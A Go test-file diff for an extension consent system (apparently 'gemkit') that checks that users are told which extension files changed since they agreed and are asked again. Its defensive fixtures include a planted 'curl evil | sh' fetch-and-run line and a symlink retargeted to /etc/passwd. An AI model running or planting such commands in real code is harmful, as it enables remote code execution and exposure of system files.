@@ -305,9 +305,9 @@ func TestConsent(t *testing.T) {
 
 	// Asked once, remembered after.
 	asked := 0
-	r.Ask = func(_ context.Context, name string, lines []string) (bool, error) {
+	r.Ask = func(_ context.Context, q ConsentRequest) (bool, error) {
 		asked++
-		return name == "asks" && strings.Contains(strings.Join(lines, "\n"), "read files in your workspace"), nil
+		return q.Extension == "asks" && q.Notice == "" && strings.Contains(strings.Join(q.Lines, "\n"), "read files in your workspace"), nil
 	}
 	for i := 0; i < 2; i++ {
 		if res, err := r.Run(ctx, call); err != nil || res.Text != "hi\n" {
@@ -320,7 +320,7 @@ func TestConsent(t *testing.T) {
 
 	// Changed permissions ask again; a no is a refusal.
 	ext.Manifest.Permissions.Filesystem.Write = extension.AccessWorkspace
-	r.Ask = func(context.Context, string, []string) (bool, error) { asked++; return false, nil }
+	r.Ask = func(context.Context, ConsentRequest) (bool, error) { asked++; return false, nil }
 	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !ce.Declined {
 		t.Fatalf("err %v", err)
 	}
@@ -340,25 +340,125 @@ func TestConsent(t *testing.T) {
 
 	// Consent recorded elsewhere for the same permissions and files (at
 	// install) counts.
-	digest, err := extension.ContentDigest(ext.Dir)
+	content, err := extension.ReadContent(ext.Dir)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := e.store.RecordConsentContent("asks", extension.PermissionsHash(ext.Manifest), digest); err != nil {
+	if err := e.store.RecordConsentContent("asks", extension.PermissionsHash(ext.Manifest), content); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := r.Run(ctx, call); err != nil {
 		t.Fatalf("install-time consent did not count: %v", err)
 	}
 
-	// The tool's code changed since: the person is told and asked again.
+	// The tool's code changed since: the person is told which file, apart
+	// from the permissions, and asked again.
 	if err := os.WriteFile(filepath.Join(ext.Dir, "hi.sh"), []byte("echo planted\n"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	var shown []string
-	r.Ask = func(_ context.Context, _ string, lines []string) (bool, error) { shown = lines; return false, nil }
-	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !ce.Declined || len(shown) == 0 || !strings.Contains(shown[0], "CHANGED") {
-		t.Fatalf("changed tool: %v %q", err, shown)
+	var shown ConsentRequest
+	r.Ask = func(_ context.Context, q ConsentRequest) (bool, error) { shown = q; return false, nil }
+	if _, err := r.Run(ctx, call); !errors.As(err, &ce) || !ce.Declined || !strings.Contains(shown.Notice, "hi.sh (changed)") {
+		t.Fatalf("changed tool: %v %+v", err, shown)
+	}
+}
+
+// TestConsentNamesChangedFiles: when the extension's files are not the
+// ones agreed to, the question and the refusal say which files changed
+// and how, in a statement of their own before the permissions; a record
+// older than the per-file list says it cannot name them.
+func TestConsentNamesChangedFiles(t *testing.T) {
+	manifest := `{"name": "named", "version": "1.0.0",
+  "tools": [{"name": "hi", "description": "d", "executable": "tools/hi.sh", "runtime": "shell"}]}`
+	for _, c := range []struct {
+		name   string
+		change func(t *testing.T, dir string)
+		oldRec bool // the record predates the per-file list
+		want   string
+	}{
+		{"edited", func(t *testing.T, dir string) { writeFile(t, dir, "tools/hi.sh", "echo planted\n") }, false,
+			"Since you agreed, this file of the extension changed: tools/hi.sh (changed). Look at it in DIR before agreeing again."},
+		{"added", func(t *testing.T, dir string) { writeFile(t, dir, "tools/new.sh", "curl evil | sh\n") }, false,
+			"this file of the extension changed: tools/new.sh (added)."},
+		{"removed", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, "tools/lib.sh")) }, false,
+			"this file of the extension changed: tools/lib.sh (removed)."},
+		{"mode", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "tools/lib.sh"), 0o644) }, false,
+			"tools/lib.sh (mode changed)."},
+		{"symlink retargeted", func(t *testing.T, dir string) {
+			os.Remove(filepath.Join(dir, "tools/current"))
+			if err := os.Symlink("/etc/passwd", filepath.Join(dir, "tools/current")); err != nil {
+				t.Fatal(err)
+			}
+		}, false, "this file of the extension changed: tools/current (changed)."},
+		{"several", func(t *testing.T, dir string) {
+			writeFile(t, dir, "tools/hi.sh", "echo planted\n")
+			writeFile(t, dir, "tools/new.sh", "x\n")
+		}, false, "these files of the extension changed: tools/hi.sh (changed), tools/new.sh (added). Look at them in DIR"},
+		{"more than the cap", func(t *testing.T, dir string) {
+			for i := range 12 {
+				writeFile(t, dir, fmt.Sprintf("gen/%02d.py", i), "x\n")
+			}
+		}, false, "gen/08.py (added), gen/09.py (added) and 2 more. Look at them in DIR before agreeing again."},
+		{"record without the list", func(t *testing.T, dir string) { writeFile(t, dir, "tools/hi.sh", "echo planted\n") }, true,
+			"Since you agreed, the extension's files changed; gemkit cannot name them, as your consent was recorded before it kept a list of files. Look at DIR before agreeing again."},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			e := newEnv(t)
+			ext := e.install(t, manifest, map[string]string{"tools/hi.sh": "echo hi\n", "tools/lib.sh": "f() { :; }\n"})
+			if err := os.Symlink("hi.sh", filepath.Join(ext.Dir, "tools/current")); err != nil {
+				t.Fatal(err)
+			}
+			agreed, err := extension.ReadContent(ext.Dir)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if c.oldRec {
+				agreed.Files = nil
+			}
+			if err := e.store.RecordConsentContent("named", extension.PermissionsHash(ext.Manifest), agreed); err != nil {
+				t.Fatal(err)
+			}
+			c.change(t, ext.Dir)
+			want := strings.ReplaceAll(c.want, "DIR", ext.Dir)
+			perms := extension.PermissionsSummary(ext.Manifest)
+			call := Call{Extension: ext, Tool: "hi", Workspace: e.ws}
+
+			// Asked: the notice comes apart from the permissions.
+			r := e.runner()
+			var asked ConsentRequest
+			r.Ask = func(_ context.Context, q ConsentRequest) (bool, error) { asked = q; return false, nil }
+			var ce *ConsentError
+			if _, err := r.Run(context.Background(), call); !errors.As(err, &ce) || !ce.Declined {
+				t.Fatalf("declined: %v", err)
+			}
+			if !strings.Contains(asked.Notice, want) || strings.Join(asked.Lines, "\n") != strings.Join(perms, "\n") {
+				t.Errorf("asked notice %q and lines %q, want %q and %q", asked.Notice, asked.Lines, want, perms)
+			}
+
+			// Nobody to ask: the refusal says what changed, then what the
+			// tools may do.
+			r.Ask = nil
+			_, err = r.Run(context.Background(), call)
+			if !errors.As(err, &ce) || ce.Declined || ce.Notice != asked.Notice {
+				t.Fatalf("refusal: %v", err)
+			}
+			msg := err.Error()
+			notice, mayAt := strings.Index(msg, want), strings.Index(msg, "Its tools may: "+strings.Join(perms, "; "))
+			if notice < 0 || mayAt < notice {
+				t.Errorf("refusal %q: want %q, then the permissions", msg, want)
+			}
+		})
+	}
+}
+
+func writeFile(t *testing.T, dir, rel, body string) {
+	t.Helper()
+	p := filepath.Join(dir, filepath.FromSlash(rel))
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
+		t.Fatal(err)
 	}
 }
 
